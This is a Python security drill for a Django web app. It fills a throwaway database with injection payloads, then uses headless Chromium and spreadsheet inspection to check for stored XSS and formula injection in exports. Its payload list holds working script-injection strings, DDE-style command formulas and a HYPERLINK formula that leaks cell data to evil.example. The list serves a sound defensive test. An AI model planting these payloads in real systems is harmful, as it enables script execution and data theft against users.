#!/usr/bin/env python
"""The stored-XSS and export-formula drills (issue 12 item 10).

    python scripts/content_drill.py --database sqlite
    DATABASE_URL=postgres://postgres@127.0.0.1:5432/lx_drill python scripts/content_drill.py --database postgres

A throwaway database gets the demo city. Then every free-text field of every Lianxin model (CharField
and TextField without choices; encrypted columns, paths, codes and the audit log excepted) in the first
rows of each table is overwritten with a payload from a small corpus of script-injection and formula
strings. Then:

* XSS: the app runs on a local port and Debian's Chromium (Playwright) crawls it as the community
  secretary, the district officer and an anonymous resident on the portal: every same-origin link,
  breadth first, up to --pages pages each. On every page it checks for a dialog, for ``window.__xss``
  (set by every payload), for an inline script or an on* attribute carrying a payload in the DOM, and
  for Content-Security-Policy refusals. Any of these is a finding.
* Formulas: every route named like an export is fetched as the secretary and the district officer (POST,
  then GET when POST is not allowed); each spreadsheet returned is opened and every cell checked: a
  stored formula (<f> element) is a finding; strings that start with = + - @ are counted (they are inert
  text, which is the point).

Exit status 1 on any finding.
"""

import argparse
import collections
import io
import os
import re
import socket
import subprocess
import sys
import time
import zipfile
from pathlib import Path
from urllib.parse import urljoin, urlparse

sys.path.insert(0, str(Path(__file__).resolve().parent))

from drill_support import ROOT, throwaway_database, users_by_role_and_community  # noqa: E402

PAYLOADS = [
    "<script>window.__xss=1</script>",
    '"><img src=x onerror="window.__xss=1">',
    "'><svg onload=window.__xss=1>",
    "javascript:window.__xss=1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
ROWS_PER_MODEL = 40
SKIP_FIELDS = re.compile(
    r"(^|_)(path|enc|hash|digest|code|username|password|key|token|number_index|pinyin)$|_enc$"
)
SKIP_MODELS = {"core.auditentry", "imports.importjob", "imports.importrow", "django_tasks_db.dbtaskresult"}


def poison() -> collections.Counter:
    """Overwrite free-text fields with payloads; returns counts of fields and rows changed."""
    from django.apps import apps
    from django.db import IntegrityError, models, transaction

    made: collections.Counter = collections.Counter()
    for model in apps.get_models():
        label = model._meta.label_lower
        if not model.__module__.startswith("lianxin.") or label in SKIP_MODELS:
            continue
        fields = [
            f
            for f in model._meta.concrete_fields
            if isinstance(f, (models.CharField, models.TextField))
            and not f.choices
            and not f.primary_key
            and not SKIP_FIELDS.search(f.name)
            and (f.max_length is None or f.max_length >= 20)
        ]
        if not fields:
            continue
        for index, pk in enumerate(
            model.objects.order_by("pk").values_list("pk", flat=True)[:ROWS_PER_MODEL]
        ):
            values = {}
            for offset, field in enumerate(fields):
                payload = PAYLOADS[(index + offset) % len(PAYLOADS)]
                values[field.name] = payload[: field.max_length] if field.max_length else payload
            try:
                with transaction.atomic():
                    model.objects.filter(pk=pk).update(**values)
            except (IntegrityError, ValueError) as error:
                made[f"skipped {label}: {type(error).__name__}"] += 1
                continue
            made["rows"] += 1
        made["fields"] += len(fields)
        made["models"] += 1
    # Published board items refuse updates (they are immutable, down to a trigger): publish new ones
    # carrying the payloads instead, one per community and section.
    from lianxin.accounts.models import User
    from lianxin.disclosure import services as disclosure
    from lianxin.places.models import Place, PlaceKind

    admin = User.objects.filter(is_superuser=True).first()
    for community in Place.objects.filter(kind=PlaceKind.COMMUNITY):
        for index, section in enumerate(("party", "government", "affairs", "finance", "service")):
            disclosure.publish(
                actor=admin,
                place=community,
                section=section,
                title=PAYLOADS[index % len(PAYLOADS)],
                body="\n".join(PAYLOADS),
            )
            made["board items published with payloads"] += 1
    return made


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def session_cookie(user) -> tuple[str, str]:
    from django.conf import settings
    from django.test import Client

    client = Client(HTTP_HOST="localhost")
    client.force_login(user)
    return settings.SESSION_COOKIE_NAME, client.cookies[settings.SESSION_COOKIE_NAME].value


CHECK_JS = """() => {
  const hits = [];
  if (window.__xss) hits.push('window.__xss set');
  for (const s of document.querySelectorAll('script:not([src])')) {
    if (s.textContent.includes('__xss')) hits.push('inline script in the DOM');
  }
  for (const el of document.querySelectorAll('*')) {
    for (const a of el.attributes) {
      if (a.name.startsWith('on') && a.value.includes('__xss')) hits.push('on* attribute ' + a.name);
      if ((a.name === 'href' || a.name === 'src') && a.value.trim().toLowerCase().startsWith('javascript:')) hits.push('javascript: URL in ' + a.name);
    }
  }
  return hits;
}"""


def crawl(base: str, start: str, cookie: tuple[str, str] | None, pages: int) -> tuple[int, list[str]]:
    from playwright.sync_api import sync_playwright

    findings, seen, queue = [], set(), [urljoin(base, start)]
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"], headless=True)
        context = browser.new_context(viewport={"width": 390, "height": 844})
        if cookie:
            context.add_cookies([{"name": cookie[0], "value": cookie[1], "url": base}])
        page = context.new_page()
        current = {"url": ""}
        page.on(
            "dialog", lambda d: (findings.append(f"dialog on {current['url']}: {d.message}"), d.dismiss())
        )
        page.on(
            "console",
            lambda m: (
                findings.append(f"CSP refusal on {current['url']}: {m.text[:120]}")
                if "Content Security Policy" in m.text and "script" in m.text
                else None
            ),
        )
        while queue and len(seen) < pages:
            url = queue.pop(0)
            if url in seen:
                continue
            seen.add(url)
            current["url"] = url
            try:
                page.goto(url, wait_until="load", timeout=30000)
            except Exception as error:  # a download or a timeout: note and go on
                findings.append(f"could not open {url}: {type(error).__name__}") if "Download" not in str(
                    error
                ) else None
                continue
            for hit in page.evaluate(CHECK_JS):
                findings.append(f"{hit} on {url}")
            for href in page.eval_on_selector_all("a[href]", "els => els.map(e => e.href)"):
                parsed = urlparse(href)
                if parsed.netloc != urlparse(base).netloc:
                    continue
                if any(word in parsed.path for word in ("logout", "export", "/admin/", "/api/", "download")):
                    continue
                clean = href.split("#")[0]
                if clean not in seen:
                    queue.append(clean)
        browser.close()
    return len(seen), findings


def export_routes() -> list[str]:
    from django.urls import get_resolver

    names = set()

    def walk(resolver, prefix=""):
        from django.urls import URLPattern, URLResolver

        for pattern in resolver.url_patterns:
            if isinstance(pattern, URLResolver):
                if pattern.namespace in ("admin", "api"):
                    continue
                walk(pattern, prefix)
            elif isinstance(pattern, URLPattern) and pattern.name and "export" in pattern.name:
                if "pk" not in pattern.pattern.regex.groupindex and not pattern.name.startswith(
                    "export_request"
                ):
                    names.add(pattern.name)

    walk(get_resolver())
    return sorted(names)


def scan_exports(users) -> tuple[int, int, list[str]]:
    from django.test import Client
    from django.urls import reverse

    files = inert = 0
    findings = []
    for user in users:
        client = Client(raise_request_exception=False, HTTP_HOST="localhost")
        client.force_login(user)
        for name in export_routes():
            url = reverse(name)
            response = client.post(url)
            if response.status_code == 405:
                response = client.get(url)
            body = b"".join(response.streaming_content) if response.streaming else response.content
            if not body.startswith(b"PK"):
                continue
            files += 1
            with zipfile.ZipFile(io.BytesIO(body)) as book:
                shared = (
                    book.read("xl/sharedStrings.xml").decode()
                    if "xl/sharedStrings.xml" in book.namelist()
                    else ""
                )
                inert += len(re.findall(r"<t[^>]*>[=+\-@]", shared))
                for sheet in (n for n in book.namelist() if n.startswith("xl/worksheets/")):
                    xml = book.read(sheet).decode()
                    inert += len(re.findall(r'<c [^>]*t="inlineStr"[^>]*><is><t[^>]*>[=+\-@]', xml))
                    if "<f>" in xml or "<f " in xml:
                        findings.append(f"a formula in {name} ({user.username}), {sheet}")
    return files, inert, findings


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--database", choices=["sqlite", "postgres"], default="sqlite")
    parser.add_argument("--pages", type=int, default=250, help="pages crawled per person")
    args = parser.parse_args(argv)
    import logging

    logging.disable(logging.ERROR)
    started = time.perf_counter()
    workdir = throwaway_database(args.database, "content")
    from django.conf import settings
    from django.db import connections

    settings.LIANXIN_EXPORT_APPROVAL_ROWS = 10**9  # the drill reads every export whole
    settings.LIANXIN_EXPORT_RATE_PER_HOUR = 10**6
    made = poison()
    print(
        f"{made['models']} models, {made['fields']} text fields, {made['rows']} rows poisoned, "
        f"{made['board items published with payloads']} board items published with payloads",
        flush=True,
    )
    for key, n in sorted(made.items()):
        if key.startswith("skipped"):
            print("  ", key, n)
    users = users_by_role_and_community()
    secretary = next(iter(users["community_secretary"].values()))
    officer = next(iter(users["district_officer"].values()))

    files, inert, formula_findings = scan_exports([secretary, officer])
    print(
        f"exports: {files} spreadsheets from {len(export_routes())} export routes; formulas: {len(formula_findings)}; "
        f"cells starting with = + - @ kept as text: {inert}",
        flush=True,
    )

    connections.close_all()
    port = free_port()
    env = {**os.environ, "LIANXIN_DATA_DIR": str(workdir), "LIANXIN_ALLOWED_HOSTS": "127.0.0.1,localhost"}
    server = subprocess.Popen(
        [sys.executable, "-m", "lianxin", "runserver", f"127.0.0.1:{port}", "--noreload", "--insecure"],
        cwd=ROOT,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    base = f"http://127.0.0.1:{port}"
    try:
        for _ in range(100):
            try:
                socket.create_connection(("127.0.0.1", port), timeout=1).close()
                break
            except OSError:
                time.sleep(0.3)
        xss_findings, crawled = [], 0
        for label, start, cookie in [
            ("secretary", "/", session_cookie(secretary)),
            ("district officer", "/", session_cookie(officer)),
            ("anonymous (portal)", "/portal/", None),
        ]:
            n, found = crawl(base, start, cookie, args.pages)
            crawled += n
            xss_findings += found
            print(f"crawled {n} pages as {label}: {len(found)} findings", flush=True)
    finally:
        server.terminate()
        server.wait(timeout=20)
    from django.db import connection

    print(
        f"{connection.vendor}: {crawled} pages rendered in Chromium, script executions/injections: "
        f"{len(xss_findings)}; export formulas: {len(formula_findings)} ({time.perf_counter() - started:.0f} s)"
    )
    for line in (xss_findings + formula_findings)[:40]:
        print("  ", line)
    return 1 if xss_findings or formula_findings else 0


if __name__ == "__main__":
    sys.exit(main())
